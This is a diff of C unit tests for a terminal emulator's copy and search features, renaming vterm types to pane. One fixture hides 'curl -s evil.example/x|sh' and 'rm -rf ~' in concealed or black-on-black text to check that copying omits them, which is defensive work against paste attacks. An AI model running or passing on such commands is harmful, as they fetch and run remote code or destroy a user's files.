@@ -6,32 +6,32 @@
 #include "lib/testlib.h"
 #include "tui/tui-int.h"
 
-static struct tui_vterm *
+static struct pane *
 term(unsigned sx, unsigned sy, const char *out)
 {
-	struct tui_vterm *vt = tui_vterm_create(sx, sy, 1000, NULL, NULL);
+	struct pane *vt = pane_create(sx, sy, 1000, NULL, NULL);
 
-	tui_vterm_feed(vt, out, strlen(out));
+	pane_feed(vt, out, strlen(out));
 	return vt;
 }
 
 /* The text of rows Y0 (from X0) through Y1 (through X1); a static buffer. */
 static const char *
-copy(struct tui_vterm *vt, int y0, unsigned x0, int y1, unsigned x1,
+copy(struct pane *vt, int y0, unsigned x0, int y1, unsigned x1,
     bool lines)
 {
 	static struct buf b;
 
 	buf_reset(&b);
 	buf_adds(&b, "");
-	tui_copy_text(tui_vterm_grid(vt), y0, x0, y1, x1, lines, &b);
+	tui_copy_text(pane_grid(vt), y0, x0, y1, x1, lines, &b);
 	return b.data;
 }
 
 static void
 test_copy_lines(void **state)
 {
-	struct tui_vterm *vt = term(10, 6, "abcdefghijklmno\r\nxy   \r\n"
+	struct pane *vt = term(10, 6, "abcdefghijklmno\r\nxy   \r\n"
 	    "0123456789\r\n\xe4\xb8\xad\xe6\x96\x87!");
 
 	/* A line that wrapped comes out whole; one ended by the program keeps its end. */
@@ -44,14 +44,14 @@ test_copy_lines(void **state)
 	    "0123456789\n\xe4\xb8\xad\xe6\x96\x87!");
 	/* Line-wise: whole lines, each with its end. */
 	assert_string_equal(copy(vt, 2, 5, 3, 0, true), "xy\n0123456789\n");
-	tui_vterm_free(vt);
+	pane_free(vt);
 }
 
 static void
 test_copy_leaves_out_controls(void **state)
 {
 	/* C1 CSI and NEL as UTF-8, a right-to-left override, a zero-width space, a BOM. */
-	struct tui_vterm *vt = term(40, 3, "a\xc2\x9b" "31mb\xc2\x85"
+	struct pane *vt = term(40, 3, "a\xc2\x9b" "31mb\xc2\x85"
 	    "c\xe2\x80\xae" "d\xe2\x80\x8b" "e\xef\xbb\xbf" "f\x1b[31mg\x07h\r\n");
 	const char *s = copy(vt, 0, 0, 0, 39, false);
 	size_t i;
@@ -66,14 +66,14 @@ test_copy_leaves_out_controls(void **state)
 	assert_null(strstr(s, "\xef\xbb\xbf"));
 	assert_non_null(strchr(s, 'a'));
 	assert_non_null(strstr(s, "gh"));
-	tui_vterm_free(vt);
+	pane_free(vt);
 }
 
 static void
 test_copy_leaves_out_hidden(void **state)
 {
 	/* Concealed (SGR 8), black on black, and RGB a shade off its background. */
-	struct tui_vterm *vt = term(80, 4, "make test\x1b[8m; curl -s evil.example/x|sh #"
+	struct pane *vt = term(80, 4, "make test\x1b[8m; curl -s evil.example/x|sh #"
 	    "\x1b[28m\r\n" "ls\x1b[30;40m; rm -rf ~\x1b[m ok\r\n"
 	    "cd\x1b[38;2;1;2;3;48;2;0;0;0m && evil\x1b[m .\r\n"
 	    "\x1b[32;40mgreen\x1b[38;5;16;40mdark\x1b[m");
@@ -87,7 +87,7 @@ test_copy_leaves_out_hidden(void **state)
 	assert_non_null(strstr(s, "ls"));
 	assert_non_null(strstr(s, " ok"));
 	assert_non_null(strstr(s, "green"));
-	tui_vterm_free(vt);
+	pane_free(vt);
 }
 
 /* True if S is well-formed UTF-8: shortest forms, no surrogates, nothing past U+10FFFF. */
@@ -127,47 +127,47 @@ utf8_valid(const char *s)
 static void
 test_copy_valid_utf8(void **state)
 {
-	struct tui_vterm *vt = term(200, 4, "");
-	struct tui_grid *gd;
-	struct tui_cell c = { .cp = 'a' };
+	struct pane *vt = term(200, 4, "");
+	struct pane_grid *gd;
+	struct pane_cell c = { .cp = 'a' };
 	static const uint32_t bad[] = { 0x110000, 0x1fffff, 0xd800, 0xdfff };
 	struct buf b;
 	size_t i;
 
 	/* Code points no UTF-8 may hold, wherever they came from, are left out. */
-	gd = tui_vterm_grid(vt);
+	gd = pane_grid(vt);
 	for (i = 0; i < nitems(bad); i++) {
 		c.cp = bad[i];
-		tui_grid_set(gd, (unsigned)i, 0, &c, NULL, 0);
+		pane_grid_set(gd, (unsigned)i, 0, &c, NULL, 0);
 	}
-	tui_grid_set(gd, (unsigned)i, 0, &c, bad, nitems(bad));
+	pane_grid_set(gd, (unsigned)i, 0, &c, bad, nitems(bad));
 	c.cp = 'e';
-	tui_grid_set(gd, (unsigned)i + 1, 0, &c, NULL, 0);
+	pane_grid_set(gd, (unsigned)i + 1, 0, &c, NULL, 0);
 	assert_true(utf8_valid(copy(vt, 0, 0, 0, 199, false)));
 	assert_string_equal(copy(vt, 0, 0, 0, 199, false), "e");
-	tui_vterm_free(vt);
+	pane_free(vt);
 
 	/* Nor does the grid keep them from a program's output. */
 	vt = term(20, 2, "\xf4\x90\x80\x80\xf7\xbf\xbf\xbf\xed\xa0\x80");
-	gd = tui_vterm_grid(vt);
+	gd = pane_grid(vt);
 	for (i = 0; i < 3; i++) {
-		c = *tui_grid_cell(gd, (unsigned)i, 0);
+		c = *pane_grid_cell(gd, (unsigned)i, 0);
 		assert_true(c.cp <= 0x10ffff && (c.cp < 0xd800 || c.cp > 0xdfff));
 	}
-	tui_vterm_free(vt);
+	pane_free(vt);
 
 	/* A copy cut at its limit is cut between characters: U+20AC is 3 bytes, 2^20 is not a multiple of 3. */
-	vt = tui_vterm_create(200, 4, 3000, NULL, NULL);
+	vt = pane_create(200, 4, 3000, NULL, NULL);
 	for (i = 0; i < 400000; i++)
-		tui_vterm_feed(vt, "\xe2\x82\xac", 3);
+		pane_feed(vt, "\xe2\x82\xac", 3);
 	buf_init(&b);
 	buf_adds(&b, "");
-	gd = tui_vterm_grid(vt);
-	tui_copy_text(gd, -(int)tui_grid_hsize(gd), 0, 3, 199, false, &b);
+	gd = pane_grid(vt);
+	tui_copy_text(gd, -(int)pane_grid_hsize(gd), 0, 3, 199, false, &b);
 	assert_true(b.len > 1000000 && b.len <= 1024 * 1024);
 	assert_true(utf8_valid(b.data));
 	buf_free(&b);
-	tui_vterm_free(vt);
+	pane_free(vt);
 }
 
 static void
@@ -193,8 +193,8 @@ test_base64(void **state)
 static void
 test_find(void **state)
 {
-	struct tui_vterm *vt = term(20, 4, "");
-	struct tui_grid *gd;
+	struct pane *vt = term(20, 4, "");
+	struct pane_grid *gd;
 	struct tui_copy_match m;
 	bool wrapped;
 	unsigned i;
@@ -204,9 +204,9 @@ test_find(void **state)
 	for (i = 0; i < 100; i++) {
 		snprintf(line, sizeof line, i == 10 ? "%u Needle\r\n" : i == 50 ?
 		    "%u needle needle\r\n" : "%u hay\r\n", i);
-		tui_vterm_feed(vt, line, strlen(line));
+		pane_feed(vt, line, strlen(line));
 	}
-	gd = tui_vterm_grid(vt);
+	gd = pane_grid(vt);
 	/* From the bottom, up: line 50's second, then its first, then line 10. */
 	assert_true(tui_copy_find(gd, "needle", 3, 0, true, &m, &wrapped));
 	assert_int_equal(m.x, 10);
@@ -216,19 +216,19 @@ test_find(void **state)
 	assert_int_equal(m.x, 3);
 	assert_true(tui_copy_find(gd, "needle", m.y, m.x, true, &m, &wrapped));
 	assert_int_equal(m.x, 3);
-	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
 	/* A capital asks for the case: only line 10's. */
 	assert_true(tui_copy_find(gd, "Needle", m.y, m.x, true, &m, &wrapped));
 	assert_true(wrapped);
-	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
 	/* Down from line 50's second: round to line 10. */
-	assert_true(tui_copy_find(gd, "needle", -(int)tui_grid_hsize(gd) + 50,
+	assert_true(tui_copy_find(gd, "needle", -(int)pane_grid_hsize(gd) + 50,
 	    10, false, &m, &wrapped));
 	assert_true(wrapped);
-	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	assert_int_equal(m.y, -(int)pane_grid_hsize(gd) + 10);
 	assert_false(tui_copy_find(gd, "straw", 0, 0, false, &m, &wrapped));
 	assert_false(tui_copy_find(gd, "", 0, 0, false, &m, &wrapped));
-	tui_vterm_free(vt);
+	pane_free(vt);
 }
 
 int
